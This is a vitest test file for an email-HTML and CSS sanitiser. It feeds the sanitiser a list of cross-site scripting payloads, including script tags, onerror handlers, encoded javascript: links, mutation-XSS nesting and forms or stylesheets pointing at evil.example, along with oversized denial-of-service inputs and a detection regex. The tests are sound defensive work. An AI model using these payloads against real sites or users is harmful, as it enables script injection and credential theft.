import { expect, test } from 'vitest';
import { sanitiseHtml } from './sanitize.ts';
import { sanitiseStyle } from './style.ts';

// What a browser would act on, whatever it is written in.
const DANGEROUS =
  /<\s*(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|video|audio|template)|\son\w+\s*=|javascript:|vbscript:|srcset|formaction|\ssrc="(?!data:image)|url\(|expression|position/i;

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x 2x" style="background:url(https://evil.example)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<form action="https://evil.example"><input name=password><button formaction=x>go</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>"><p>in</p></iframe>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example";</style>',
  '<div style="position:fixed;top:0;left:0;width:expression(alert(1));background-image:url(x)">x</div>',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
  '<body onload=alert(1) background="https://evil.example/b.png">',
  '<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(1)></textarea>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img """><script>alert(1)</script>">',
  '<<script>alert(1)//<</script>',
])('nothing runs, loads or submits: %s', (html) => {
  const safe = sanitiseHtml(html);
  expect(safe).not.toMatch(DANGEROUS);
  expect(sanitiseHtml(safe)).toBe(safe);
});

test('remote and attached images wait for the agent', () => {
  expect(sanitiseHtml('<img src="https://x.example/a.png" alt="A" width=10>')).toBe(
    '<img alt="A" width="10" data-remote-src="https://x.example/a.png" />',
  );
  expect(sanitiseHtml('<img src="//x.example/a.png">')).toBe('<img data-remote-src="https://x.example/a.png" />');
  expect(sanitiseHtml('<img src="cid:img1@local">')).toBe('<img data-cid="img1@local" />');
  expect(sanitiseHtml('<img src="data:image/png;base64,AA==">')).toBe('<img src="data:image/png;base64,AA==" />');
  expect(sanitiseHtml('<img data-remote-src="javascript:x" src="x">')).toBe('<img />');
});

test('links open outside and tell nothing; links into the console are none', () => {
  const outside = 'target="_blank" rel="noopener noreferrer"';
  expect(sanitiseHtml('<a href=" https://x.example/a b?c=1&d=2" onclick=x>go</a>')).toBe(
    `<a href="https://x.example/a%20b?c=1&amp;d=2" ${outside}>go</a>`,
  );
  expect(sanitiseHtml('<a href="mailto:a@x.example">a</a>')).toBe(`<a href="mailto:a@x.example" ${outside}>a</a>`);
  for (const href of ['/api/auth/logout', '//x.example', '#top', '?q', 'ftp://x.example']) {
    expect(sanitiseHtml(`<a href="${href}">a</a>`)).toBe('<a>a</a>');
  }
});

test('what a mail looks like stays: tables, colours, emoji, right-to-left', () => {
  const html =
    '<table border="0"><tr><td colspan="2" style="color:#f00;text-align:center">😟 שלום</td></tr></table><p dir="rtl">مرحبا</p>';
  expect(sanitiseHtml(html)).toBe(html);
});

test.each([
  ['color: red; position: fixed', 'color:red'],
  ['background:url(x)', ''],
  ['background-color:rgb(1, 2, 3)', 'background-color:rgb(1, 2, 3)'],
  ['width:calc(100vw)', ''],
  ['color:\\72 ed', ''],
  ['color:red/**/', ''],
  ['margin:-100px;margin-top: -5px', ''],
  ['font-family:"Noto Sans", serif', 'font-family:"Noto Sans", serif'],
  ['color:red}body{display:none', ''],
  ['color', ''],
])('style %j becomes %j', (style, kept) => {
  expect(sanitiseStyle(style)).toBe(kept);
});

test.each([
  ['deep', `${'<div>'.repeat(100_000)}x${'</span>'.repeat(100_000)}`],
  ['unclosed scripts below deep nesting', '<div>'.repeat(1_000) + '<script'.repeat(100_000)],
  ['brackets', '<'.repeat(1_000_000)],
  ['attributes', `<a ${Array.from({ length: 100_000 }, (_, index) => `x${index}=1`).join(' ')}>`],
  ['styles', `<p style="color:${'a'.repeat(3_900)}">`.repeat(300)],
  ['iframes', '<iframe>'.repeat(100_000)],
  ['paragraphs', '<p>'.repeat(300_000)],
  ['30 MB', '<p>words</p>'.repeat(2_500_000)],
])('hostile size is no trouble: %s', (_what, html) => {
  const startedAt = performance.now();
  expect(sanitiseHtml(html)).not.toMatch(/<script/);
  expect(performance.now() - startedAt).toBeLessThan(3_000);
});
